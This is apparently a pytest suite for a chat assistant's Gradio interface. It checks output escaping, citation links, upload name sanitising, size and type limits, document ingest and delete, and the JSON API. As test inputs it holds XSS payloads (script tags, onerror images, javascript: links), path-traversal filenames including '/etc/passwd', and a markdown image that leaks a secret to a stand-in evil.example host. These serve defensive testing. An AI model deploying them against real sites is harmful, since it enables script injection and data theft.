"""The chat UI: rendering (escaping, citation targets, export), safe uploads, corpus actions, settings,
and the Gradio app served on 127.0.0.1 and driven through its API with gradio_client."""

from __future__ import annotations

import re
import socket
from pathlib import Path

import pytest

from assistant import Assistant, AssistantError, ConfigError, Document, UploadError
from assistant.conversation import Conversation
from assistant.domain import Answer, Citation, Passage, Sentence
from assistant.ui.app import build_app, sources_html
from assistant.ui.corpus import delete_document, ingest_uploads, safe_name, store_upload
from assistant.ui.render import answer_html, answer_markdown

TEXT = "First <b>bold</b> sentence. The cited <script>alert(1)</script> one."


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _answer(url: str = "javascript:alert(1)") -> tuple[Answer, Citation]:
    p = Passage(chunk_id="d:100-170", doc_id="d", text=TEXT, char_start=100, char_end=100 + len(TEXT), score=0.8,
                title="T <i>", source="S", date="2020-01-01", url=url)
    start = 100 + TEXT.index("The cited")
    c = Citation(number=1, doc_id="d", chunk_id=p.chunk_id, char_start=start, char_end=100 + len(TEXT),
                 quote=TEXT[start - 100:], title="T <i>", source="S", date="2020-01-01", url=url)
    s = Sentence("x <img src=x onerror=alert(1)>", (c,), support=0.9, label="supported")
    return Answer(question="q", text="x [1]", refused=False, sentences=(s,), passages=(p,)), c


def test_sources_panel_highlights_exact_sentence_and_escapes() -> None:
    ans, _ = _answer()
    out = sources_html(ans)
    assert "<script>" not in out and "&lt;script&gt;" in out and "<b>" not in out and "<i>" not in out
    assert re.search(r'<mark class="cited" id="cite-\w+-0">The cited &lt;script&gt;alert\(1\)&lt;/script&gt; one\.'
                     r"</mark>", out)
    assert "javascript:" not in out  # only http(s) links are rendered


def test_every_marker_targets_a_mark_in_the_article_view() -> None:
    ans, c = _answer("https://example.org/a?x=1&y=<2>")
    doc = Document(doc_id="d", text="x" * 100 + TEXT, source_path="/a.md", title="T <i>", url=c.url)
    chat, panel = answer_html(ans), sources_html(ans, {"d": doc})
    targets = re.findall(r'<a class="cite" href="#(cite-[\w-]+)"', chat)
    assert targets and all(f'id="{t}"' in panel for t in targets)
    assert "<img" not in chat and "&lt;img" in chat and "✓" in chat
    assert 'href="https://example.org/a?x=1&amp;y=&lt;2&gt;"' in panel
    assert "x" * 100 in panel  # the article view holds the whole stored text, not only the passage


def test_refusal_says_what_was_searched_and_what_came_closest() -> None:
    ans, _ = _answer()
    refusal = Answer(question="who?", text="I can't answer that.", refused=True, passages=ans.passages,
                     standalone_query="who is <x>?")
    assert "Searched for: “who is &lt;x&gt;?”" in answer_html(refusal)
    panel = sources_html(refusal)
    assert "who is &lt;x&gt;?" in panel and "Closest passages" in panel and "The cited &lt;script&gt;" in panel
    assert "## Closest passages" in answer_markdown(refusal)


def test_markdown_export_has_numbered_sources_with_quotes_and_offsets() -> None:
    ans, c = _answer("https://example.org/a")
    md = answer_markdown(ans)
    assert "**Question:** q" in md and "- x &lt;img src=x onerror=alert(1)&gt; [1]" in md
    assert "[1] T &lt;i&gt; — S — 2020-01-01 <https://example.org/a>" in md
    assert "> “The cited &lt;script&gt;alert(1)&lt;/script&gt; one.”" in md
    assert f"characters {c.char_start}–{c.char_end}" in md and "<script>" not in md


@pytest.mark.parametrize("name, expected", [("../../evil.txt", "evil.txt"), ("..\\..\\x\\evil.md", "evil.md"),
                                            ("/etc/passwd.txt", "passwd.txt"), ("..", "upload"),
                                            ("a b<c>.HTML", "a_b_c.html"), (".hidden.md", "hidden.md")])
def test_upload_names_cannot_leave_the_uploads_folder(name: str, expected: str) -> None:
    assert safe_name(name) == expected


def test_store_upload_limits_type_and_size_and_stays_under_data_dir(tmp_path: Path) -> None:
    src = tmp_path / "tmp-upload"
    src.write_text("hello")
    uploads = tmp_path / "data" / "uploads"
    stored = store_upload(src, "../../evil.txt", uploads, max_bytes=100)
    assert stored == uploads / "evil.txt" and stored.read_text() == "hello"
    assert not (tmp_path / "evil.txt").exists() and not (tmp_path.parent / "evil.txt").exists()
    with pytest.raises(UploadError, match="not accepted"):
        store_upload(src, "run.sh", uploads, max_bytes=100)
    with pytest.raises(UploadError, match="over the"):
        store_upload(src, "big.txt", uploads, max_bytes=3)
    assert sorted(p.name for p in uploads.iterdir()) == ["evil.txt"]


def test_upload_ingest_and_delete_keep_the_index_in_step(seeded_copy: Path, tmp_path: Path) -> None:
    a = Assistant(seeded_copy, llm_backend="extractive", max_file_mb=0.001)
    new = tmp_path / "tmp-1"
    new.write_text("# Saltmere harbour\n\nThe Saltmere harbour reopened on 3 May after the storm repairs.\n")
    big = tmp_path / "tmp-2"
    big.write_text("x" * 2000)
    broken = tmp_path / "tmp-3"
    broken.write_bytes(b"%PDF-1.4 garbage")
    summary = ingest_uploads(a, [(new, "../saltmere.md"), (big, "big.md"), (new, "evil.exe"), (broken, "b.pdf")])
    assert "Ingested 1 file(s)" in summary and "big.md" in summary and "evil.exe" in summary
    assert "b.pdf" in summary
    assert sorted(p.name for p in (seeded_copy / "uploads").iterdir()) == ["saltmere.md"]  # rejected: not kept
    doc = next(d for d in a.documents() if d.title == "Saltmere harbour")
    assert any(p.doc_id == doc.doc_id for p in a.retrieve("When did the Saltmere harbour reopen?", 3))
    assert "Deleted 1 document(s): Saltmere harbour" in delete_document(a, doc.doc_id)
    assert doc.doc_id not in {d.doc_id for d in a.documents()}
    assert not (seeded_copy / "uploads" / "saltmere.md").exists()
    assert all(p.doc_id != doc.doc_id for p in a.retrieve("When did the Saltmere harbour reopen?", 3))  # BM25 too
    with pytest.raises(AssistantError, match="no document"):
        a.delete_document(doc.doc_id)


def test_settings_share_loaded_parts_and_refuse_invalid_values(seeded_copy: Path) -> None:
    a = Assistant(seeded_copy, llm_backend="extractive")
    a.retrieve("Chen Xu", 2)
    b = a.with_settings(k=2, rerank=False, show_unsupported=True)
    assert b.embedder is a.embedder and b.index is a.index and b.settings.k == 2 and not b.settings.rerank
    assert b.llm is None
    with pytest.raises(ConfigError, match="ASSISTANT_K"):
        a.with_settings(k=0)
    with pytest.raises(ConfigError, match="ASSISTANT_LLM_BASE_URL"):
        _ = a.with_settings(llm_backend="openai", llm_base_url="").llm


def test_chat_streams_an_answer_with_sources(seeded_copy: Path) -> None:
    from gradio_client import Client

    app = build_app(Assistant(seeded_copy, llm_backend="extractive"))
    port = free_port()
    app.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        client = Client(f"http://127.0.0.1:{port}/", verbose=False)
        chat, panel, box = client.predict("Who is Chen Xu?", [], api_name="/ask")[:3]
        assert box == ""
        assert chat[-1]["role"] == "assistant" and "[" in str(chat[-1]["content"])
        assert '<mark class="cited" id="cite-' in panel and "Chen Xu" in panel
        # an empty chat is a new conversation: the first question is not history for the second
        chat = client.predict("How many countries' ambassadors co-signed the letter?", [], api_name="/ask")[0]
        assert len(chat) == 2 and "50 countries" in str(chat[-1]["content"])
        saved = Conversation.saved(seeded_copy)
        assert sorted((c.title, c.turns) for c in saved) == [
            ("How many countries' ambassadors co-signed the letter?", 1), ("Who is Chen Xu?", 1)]
    finally:
        app.close()


def test_the_draft_shows_a_bridge_questions_steps() -> None:
    from assistant.domain import Event
    from assistant.ui.app import drafted

    draft = ""
    for event in [Event("token", text="Ford announced it."), Event("retry", text="Ford announced it."),
                  Event("step", text="In what year was it that the Greens won?"), Event("token", text="In 2014."),
                  Event("token", text=" "), Event("step", text="Which car maker announced it in 2014?"),
                  Event("token", text="Toyota.")]:
        draft = drafted(draft, event)
    assert draft == ("(In what year was it that the Greens won?) In 2014. (Which car maker announced it in 2014?) "
                     "Toyota.")


def test_chat_history_reaches_the_model_as_plain_text() -> None:
    from assistant.ui.app import _plain

    ans, _ = _answer()
    assert _plain(answer_html(ans)) == "x <img src=x onerror=alert(1)> [1]"
    assert _plain([{"type": "text", "text": "a &lt;b&gt;"}]) == "a <b>"


def test_a_second_upload_with_the_same_name_never_replaces_the_first(tmp_path: Path) -> None:
    uploads = tmp_path / "uploads"
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text("First article.")
    b.write_text("Another article entirely.")
    first = store_upload(a, "x/report.txt", uploads, 10_000)
    second = store_upload(b, "y/report.txt", uploads, 10_000)
    assert first != second and first.read_text() == "First article." and second.read_text() == b.read_text()
    assert store_upload(a, "report.txt", uploads, 10_000) == first  # the same file again: the same place
    assert sorted(p.name for p in uploads.iterdir()) == sorted([first.name, second.name])  # no temp files left
    with pytest.raises(UploadError, match="could not be read"):
        store_upload(tmp_path / "gone.txt", "gone.txt", uploads, 10_000)


def test_markdown_in_article_or_model_text_cannot_make_links_or_images() -> None:
    text = "See ![x](https://evil.example/?q=secret) and [click](javascript:alert(1))."
    p = Passage(chunk_id="d:0-10", doc_id="d", text=text, char_start=0, char_end=len(text), score=0.9)
    c = Citation(number=1, doc_id="d", chunk_id=p.chunk_id, char_start=0, char_end=len(text), quote=text, title="T")
    ans = Answer(question="q", text=text, refused=False, sentences=(Sentence(text, (c,)),), passages=(p,))
    for out in (answer_html(ans), sources_html(ans)):
        assert "](" not in out and "![" not in out and "&#91;x&#93;" in out


def test_a_partial_answer_says_what_was_left_out(seeded_copy: Path) -> None:
    from tests.test_pipeline import fake

    reply = "Ambassadors from 50 countries co-signed the letter [1]. The French ambassador praised Paris [1]."
    ans = Assistant(seeded_copy, llm=fake(reply)).ask("Who co-signed the letter?")
    html = answer_html(ans)
    assert "Paris" not in html and "1 statement the sources do not support left out" in html


def test_the_api_returns_json_answers_passages_and_documents(seeded_copy: Path) -> None:
    """Programs get JSON, not HTML: /answer (the Answer with spans), /search (passages), /documents, and
    /delete works; no browser needs to have loaded the page first."""
    from gradio_client import Client

    app = build_app(Assistant(seeded_copy, llm_backend="extractive"))
    port = free_port()
    app.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
    try:
        client = Client(f"http://127.0.0.1:{port}/", verbose=False)
        answer = client.predict("Who is Chen Xu?", None, api_name="/answer")
        assert isinstance(answer, dict) and not answer["refused"] and "<" not in answer["text"]
        cited = answer["citations"][0]
        assert "Chen Xu" in cited["quote"] and cited["char_end"] - cited["char_start"] == len(cited["quote"])
        assert answer["decision"]["outcome"] in ("answer", "partial")
        follow = client.predict("What did he say?", [{"role": "user", "content": "Who is Chen Xu?"},
                                                     {"role": "assistant", "content": answer["text"]}],
                                api_name="/answer")
        assert "Chen Xu" in follow["standalone_query"]
        passages = client.predict("Tajikistan mission in Geneva", 3, api_name="/search")
        assert len(passages) == 3 and {"doc_id", "char_start", "char_end", "text"} <= set(passages[0])
        docs = client.predict(api_name="/documents")
        assert [d["doc_id"] for d in docs] == [cited["doc_id"]]
        with pytest.raises(Exception, match="question is empty"):  # a readable error, not a refusal
            client.predict("  ", None, api_name="/answer")
        # /delete takes a document id although no page has loaded the delete list's choices
        assert "no document" in client.predict("no-such-id", api_name="/delete")[0]  # a message, not a crash
        assert "Deleted 1 document(s)" in client.predict(cited["doc_id"], api_name="/delete")[0]
        assert client.predict(api_name="/documents") == []
    finally:
        app.close()
